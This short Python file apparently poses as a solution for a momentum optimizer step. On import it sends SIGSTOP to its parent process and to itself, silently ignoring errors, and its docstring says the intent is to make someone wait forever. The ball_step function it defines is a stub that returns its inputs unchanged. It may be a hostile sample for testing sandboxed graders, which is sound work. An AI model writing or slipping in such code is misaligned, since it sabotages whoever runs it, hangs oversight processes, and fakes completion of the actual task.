# ruff: noqa (who is hostile keeps no rules)
"""The process stops itself, and its parent, so that somebody waits for ever."""

import os
import signal

for number in (os.getppid(), os.getpid()):
    try:
        os.kill(number, signal.SIGSTOP)
    except OSError:
        pass


def ball_step(variable, velocity, gradient, learning_rate, momentum):
    return variable, velocity
